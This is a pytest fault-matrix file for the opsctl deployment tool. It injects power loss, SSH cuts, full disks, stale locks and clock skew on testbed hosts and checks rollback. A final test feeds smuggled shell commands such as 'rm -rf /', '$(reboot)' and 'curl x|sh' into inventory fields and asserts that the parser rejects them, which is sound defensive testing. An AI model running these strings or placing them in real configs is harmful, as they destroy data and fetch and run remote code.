"""The fault matrix: roll-outs over three testbed hosts with real faults injected, each scenario asserting the
end state of every host (current release, unit state, history, lock). See harness.py for how faults are made.

Every scenario starts from three healthy hosts on a good release (the ``hosts`` fixture repairs whatever the
previous scenario left) and rolls out a fresh variant of the tree (a new release id).
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from opsctl.errors import InventoryError, UsageError
from opsctl.fleet.rollout import Outcome, plan_rollout, run_rollout
from opsctl.health.checks import check_hosts
from opsctl.health.levels import Level
from opsctl.health.probe import ssh_probe
from opsctl.inventory import HostConfig, parse
from opsctl.release import make_manifest
from opsctl.ssh import connect
from tests.fault.conftest import FIGURES, next_variant
from tests.fault.harness import (
    LEDGER,
    assert_deployed,
    assert_not_switched,
    assert_rolled_back,
    assert_untouched,
    cut_ssh_sessions,
    deploy_action,
    deploy_trees,
    fake_gpu,
    host_testbed,
    read_end,
    restart_journald,
    wait_running,
)

pytestmark = pytest.mark.timeout(900)


def release_of(tree: Path) -> str:
    return make_manifest(tree).id


def by_name(hosts: list[HostConfig]) -> dict[str, HostConfig]:
    return {h.name: h for h in hosts}


def ends(hosts: list[HostConfig]) -> dict[str, object]:
    return {h.name: read_end(h) for h in hosts}


# ---------------------------------------------------------------------------------------------- hosts down


def test_host_down_before_the_rollout(hosts: list[HostConfig], tmp_path: Path) -> None:
    tb = host_testbed(hosts[0])
    before = ends(hosts)
    tree = next_variant(tmp_path, "down-before")
    new = release_of(tree)
    tb.poweroff("tb3")
    LEDGER.fault("tb3 powered off before the roll-out")
    t0 = time.monotonic()
    report = run_rollout(plan_rollout(hosts, canary="tb1", batch=1, max_fail="34%"), deploy_action(tree))
    o = report.outcome("tb3")
    assert o.outcome is Outcome.ERROR and "tb3" in o.detail
    assert time.monotonic() - t0 < 300 and report.stopped is None and report.exit_code == 1
    tb.boot("tb3")
    after = {h.name: wait_running(h) for h in hosts}
    assert_deployed(after["tb1"], new)  # type: ignore[arg-type]
    assert_deployed(after["tb2"], new)  # type: ignore[arg-type]
    assert_untouched(before["tb3"], after["tb3"], rebooted=True)  # type: ignore[arg-type]


def test_host_powered_off_during_its_upload_then_converges(hosts: list[HostConfig], tmp_path: Path) -> None:
    tb = host_testbed(hosts[0])
    before = ends(hosts)
    tree = next_variant(tmp_path, "down-during")
    new = release_of(tree)
    triggers = {"tb2": {"upload": lambda: tb.poweroff("tb2")}}
    LEDGER.fault("tb2 powered off at the start of its upload (batch running in parallel)")
    plan = plan_rollout(hosts, canary="tb1", batch="100%", max_fail="34%")
    report = run_rollout(plan, deploy_action(tree, triggers), parallel=True)
    assert report.outcome("tb2").outcome is Outcome.ERROR
    assert report.outcome("tb3").outcome is Outcome.OK
    tb.boot("tb2")
    tb2 = wait_running(by_name(hosts)["tb2"])
    # Powered off with the lock taken and nothing switched: the old release came back up by itself.
    assert tb2.current == before["tb2"].current and tb2.running  # type: ignore[attr-defined]
    starts = [r for r in tb2.records_since(before["tb2"]) if r.event == "deploy-start"]  # type: ignore[arg-type]
    assert starts and starts[-1].release == new
    LEDGER.verified("tb2 consistent after power loss mid-upload")
    # Re-running the roll-out for tb2 converges (a lock from before the reboot is taken over as stale).
    again = run_rollout(plan_rollout([by_name(hosts)["tb2"]]), deploy_action(tree))
    assert again.ok, again.outcomes
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------- SSH and journald


def _third_line_before_decision(host: HostConfig, release: str) -> None:
    """The gate needs K distinct lines from each of the unit's TP ranks: the (K x ranks)-th line of the new
    invocation (the replay prints its ranks one after another) was logged before the PASS record. (A line
    counted twice after a reconnect would let the gate pass one line early.)"""
    end = read_end(host)
    rec = [r for r in end.history if r.event == "deploy" and r.release == release][-1]
    k = host.gate.consecutive_passes * host.service.tp
    assert rec.gate["pass"] == k and rec.gate["lines"] == k, rec.gate
    with connect(host) as r:
        out = r.run(
            f"journalctl -u {host.unit}.service _SYSTEMD_INVOCATION_ID={end.invocation_id} -o json "
            "--output-fields=MESSAGE,__REALTIME_TIMESTAMP --no-pager -q",
            timeout=60,
        ).stdout
    times = [
        int(e["__REALTIME_TIMESTAMP"]) / 1e6
        for e in map(json.loads, out.splitlines())
        if isinstance(e.get("MESSAGE"), str) and "[kdtree] L" in e["MESSAGE"]
    ]
    assert len(times) >= k
    decided = time.mktime(time.strptime(rec.at, "%Y-%m-%dT%H:%M:%SZ")) - time.timezone
    assert times[k - 1] <= decided + 1.0, (times[:k], rec.at)


def test_ssh_cut_as_the_gate_starts_resumes_with_the_same_verdict(hosts: list[HostConfig], tmp_path: Path) -> None:
    tree = next_variant(tmp_path, "ssh-cut")
    new = release_of(tree)
    cut: list[str] = []
    h2 = by_name(hosts)["tb2"]
    triggers = {"tb2": {"gate": lambda: cut.extend(cut_ssh_sessions(h2))}}
    report = run_rollout(plan_rollout(hosts, canary=None), deploy_action(tree, triggers), parallel=True)
    assert cut, "no sshd session was cut"
    LEDGER.fault(f"tb2's SSH sessions killed as its gate started ({len(cut)} sshd processes)")
    assert report.ok, report.outcomes
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]
    _third_line_before_decision(h2, new)


def test_ssh_cut_right_after_the_deciding_gate_line(hosts: list[HostConfig], tmp_path: Path) -> None:
    tree = next_variant(tmp_path, "ssh-cut-late")
    new = release_of(tree)
    h2 = by_name(hosts)["tb2"]
    k = h2.gate.consecutive_passes
    triggers = {"tb2": {f"gate-line-{k}": lambda: cut_ssh_sessions(h2)}}
    LEDGER.fault(f"tb2's SSH sessions killed right after gate line {k} (the one that decides PASS)")
    log: list[str] = []
    report = run_rollout(plan_rollout([h2]), deploy_action(tree, triggers, log=log))
    assert f"tb2: injecting fault at gate-line-{k}" in log, log  # in the gate, not the pre-restart parity check
    # The pipeline reconnects for its bookkeeping after the decision: PASS recorded, lock released.
    assert report.ok, report.outcomes
    assert_deployed(read_end(h2), new)


def test_journald_restarted_during_the_gate(hosts: list[HostConfig], tmp_path: Path) -> None:
    tree = next_variant(tmp_path, "journald")
    new = release_of(tree)
    h3 = by_name(hosts)["tb3"]
    triggers = {"tb3": {"gate-line-1": lambda: restart_journald(h3)}}
    LEDGER.fault("journald restarted on tb3 at its first gate line")
    log: list[str] = []
    report = run_rollout(plan_rollout(hosts, canary=None), deploy_action(tree, triggers, log=log), parallel=True)
    assert "tb3: injecting fault at gate-line-1" in log, log
    assert report.ok, report.outcomes
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------- disk and build


def test_disk_full_during_upload(hosts: list[HostConfig], tmp_path: Path) -> None:
    tb = host_testbed(hosts[0])
    before = ends(hosts)
    tree = next_variant(tmp_path, "disk-full")
    new = release_of(tree)
    triggers = {"tb3": {"upload": lambda: tb.fill_disk("tb3")}}
    LEDGER.fault("tb3's disk filled at the start of its upload")
    try:
        report = run_rollout(
            plan_rollout(hosts, canary="tb1", max_fail="34%"), deploy_action(tree, triggers), parallel=True
        )
    finally:
        tb.free_disk("tb3")
    assert report.outcome("tb3").failed, report.outcome("tb3")
    after = ends(hosts)
    assert_deployed(after["tb1"], new)  # type: ignore[arg-type]
    assert_deployed(after["tb2"], new)  # type: ignore[arg-type]
    assert_not_switched(before["tb3"], after["tb3"], new)  # type: ignore[arg-type]


def test_build_failure_on_one_host(hosts: list[HostConfig], tmp_path: Path) -> None:
    """tb2 reports an sm_90 GPU (inventory agrees) but has no CUDA toolchain: its build fails, only there."""
    before = ends(hosts)
    tree = next_variant(tmp_path, "build-fail")
    new = release_of(tree)
    gpu_host = by_name(hosts)["tb2"].model_copy(update={"gpu_arch": "9.0"})
    fake_gpu(gpu_host, "9.0")
    LEDGER.fault("tb2: GPU host without a CUDA toolchain, extension build fails")
    fleet = [by_name(hosts)["tb1"], gpu_host, by_name(hosts)["tb3"]]
    report = run_rollout(plan_rollout(fleet, canary="tb1", batch=1, max_fail="34%"), deploy_action(tree))
    o = report.outcome("tb2")
    assert o.outcome is Outcome.FAILED and "build" in o.detail, o
    after = ends(hosts)
    assert_deployed(after["tb1"], new)  # type: ignore[arg-type]
    assert_deployed(after["tb3"], new)  # type: ignore[arg-type]
    assert_not_switched(before["tb2"], after["tb2"], new)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------- bad releases


def test_canary_parity_failure_touches_nothing_else(hosts: list[HostConfig], tmp_path: Path) -> None:
    before = ends(hosts)
    tree = deploy_trees().classic_bug(tmp_path / "classic")
    bad = release_of(tree)
    LEDGER.fault("canary tb1 gets the classic marshaling bug (drafts missing from the keys)")
    report = run_rollout(plan_rollout(hosts, canary="tb1", max_fail="100%"), deploy_action(tree), parallel=True)
    assert report.stopped and "canary tb1" in report.stopped
    assert [o.outcome for o in report.outcomes] == [Outcome.FAILED, Outcome.SKIPPED, Outcome.SKIPPED]
    after = ends(hosts)
    tb1 = after["tb1"]
    assert tb1.current == before["tb1"].current and tb1.running and not tb1.lock_present  # type: ignore[attr-defined]
    assert bad in tb1.bad  # type: ignore[attr-defined]
    LEDGER.verified("tb1 kept its release, the bug marked bad")
    assert_untouched(before["tb2"], after["tb2"])  # type: ignore[arg-type]
    assert_untouched(before["tb3"], after["tb3"])  # type: ignore[arg-type]


def test_crash_loop_after_switch_every_host_rolls_itself_back(hosts: list[HostConfig], tmp_path: Path) -> None:
    before = ends(hosts)
    tree = deploy_trees().crash_loop(tmp_path / "crash")
    bad = release_of(tree)
    for h in hosts:
        LEDGER.fault(f"{h.name}: release whose service crashes at start")
    report = run_rollout(plan_rollout(hosts, canary=None, max_fail="100%"), deploy_action(tree), parallel=True)
    assert all(o.outcome is Outcome.FAILED for o in report.outcomes), report.outcomes
    assert all("rolled back" in (o.verdict or "") for o in report.outcomes), report.outcomes
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_rolled_back(before[name], after[name], bad)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------- locks and clocks


def test_stale_lock_from_a_killed_opsctl(hosts: list[HostConfig], tmp_path: Path) -> None:
    before = ends(hosts)
    tree = next_variant(tmp_path, "killed")
    new = release_of(tree)
    h2 = by_name(hosts)["tb2"]
    inventory = os.path.expanduser(h2.known_hosts).replace("known_hosts", "inventory.yaml")
    proc = subprocess.Popen(
        [sys.executable, "-m", "opsctl", "deploy", "tb2", "--yes", "--src", str(tree), "-i", inventory],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 120
        while not read_end(h2).lock_owner:  # the lock is taken and its owner record written
            assert proc.poll() is None and time.monotonic() < deadline, "opsctl never took the lock"
            time.sleep(0.2)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    LEDGER.fault(f"opsctl deploy tb2 killed with SIGKILL while holding the lock (pid {proc.pid})")
    health = check_hosts([h2], ssh_probe).results[0].check("lock")
    assert health is not None and health.level is Level.CRIT and str(proc.pid) in health.detail
    LEDGER.verified("health reports the stale lock of the dead opsctl")
    # The roll-out refuses tb2 (its lock is held) and goes on with the others.
    report = run_rollout(plan_rollout(hosts, canary="tb1", max_fail="34%"), deploy_action(tree), parallel=True)
    o = report.outcome("tb2")
    assert o.outcome is Outcome.FAILED and "lock" in o.detail and "release --force" in o.detail, o
    mid = read_end(h2)
    assert mid.lock_present and mid.current == before["tb2"].current  # type: ignore[attr-defined]
    # The operator breaks the lock as told; the next roll-out converges.
    r = subprocess.run(
        [sys.executable, "-m", "opsctl", "lock", "tb2", "release", "--force", "-i", inventory],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr
    again = run_rollout(plan_rollout([h2]), deploy_action(tree))
    assert again.ok, again.outcomes
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]


def test_clock_skew_between_controller_and_hosts(
    hosts: list[HostConfig], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """nspawn hosts share the kernel's wall clock, so the skew is put on the controller: from each host's side
    the other end is hours off, which is what skew between machines looks like to a roll-out."""
    tree = next_variant(tmp_path, "skew")
    new = release_of(tree)
    real = time.time
    monkeypatch.setattr(time, "time", lambda: real() + 3 * 3600)
    LEDGER.fault("controller clock 3 h ahead of every host during the roll-out")
    report = run_rollout(plan_rollout(hosts, canary="tb1", batch=1), deploy_action(tree), parallel=True)
    assert report.ok, report.outcomes
    skewed = check_hosts(hosts, ssh_probe).results
    monkeypatch.undo()
    for r in skewed:
        clock = r.check("clock")
        assert clock is not None and clock.level is Level.WARN, clock
        assert r.check("lock").level is Level.OK  # type: ignore[union-attr]
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------- hostile inventory

HOSTILE_HOST_VALUES = {
    "unit": "sglang; rm -rf /",
    "root": "/root/../etc",
    "address": "$(reboot)",
    "user": "root`id`",
    "identity_file": "/k; curl x|sh",
}
HOSTILE_SETTINGS = {
    "health": {"on_calendar": "*:0/5\nExecStartPre=/bin/sh"},
    "service": {"extra_args": ["--x", "$(curl evil)"]},
    "gate": {"pass_rel": 0.5, "fail_rel": 0.1},
}


def test_hostile_inventory_values_are_refused_before_any_host_is_touched(
    hosts: list[HostConfig], tmp_path: Path
) -> None:
    before = ends(hosts)
    base = {"address": "127.0.0.1"}
    for key, value in {**HOSTILE_HOST_VALUES, **HOSTILE_SETTINGS}.items():
        text = json.dumps({"hosts": {"tb9": {**base, key: value}}})  # JSON is YAML
        LEDGER.fault(f"inventory value {key}={value!r}")
        with pytest.raises(InventoryError) as exc:
            parse(text, tmp_path / "hostile.yaml")
        assert "hosts.tb9" in exc.value.message and "hostile.yaml:" in exc.value.message
    group = json.dumps({"hosts": {"tb9": base}, "groups": {"fleet; reboot": ["tb9"]}})
    LEDGER.fault("group name with a shell command")
    with pytest.raises(InventoryError):
        parse(group, tmp_path / "hostile.yaml")
    for kwargs in ({"batch": "1; reboot"}, {"max_fail": "$(id)%"}, {"canary": "tb1 tb2"}, {"batch": "-1"}):
        LEDGER.fault(f"roll-out option {kwargs}")
        with pytest.raises(UsageError):
            plan_rollout(hosts, **kwargs)  # type: ignore[arg-type]
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_untouched(before[name], after[name])  # type: ignore[arg-type]


def test_parallel_batch_really_overlaps(hosts: list[HostConfig], tmp_path: Path) -> None:
    """Guard for the serial/parallel figure: in a parallel batch the three uploads overlap in time."""
    tree = next_variant(tmp_path, "overlap")
    new = release_of(tree)
    starts: dict[str, float] = {}
    lock = threading.Lock()

    def mark(name: str):  # type: ignore[no-untyped-def]
        def fire() -> None:
            with lock:
                starts[name] = time.monotonic()

        return fire

    triggers = {h.name: {"gate": mark(h.name)} for h in hosts}
    report = run_rollout(plan_rollout(hosts, canary=None), deploy_action(tree, triggers), parallel=True)
    assert report.ok, report.outcomes
    FIGURES["redeploy, 3 hosts, parallel (s)"] = report.elapsed_s
    assert max(starts.values()) - min(starts.values()) < min(o.elapsed_s for o in report.outcomes) / 2
    after = ends(hosts)
    for name in ("tb1", "tb2", "tb3"):
        assert_deployed(after[name], new)  # type: ignore[arg-type]
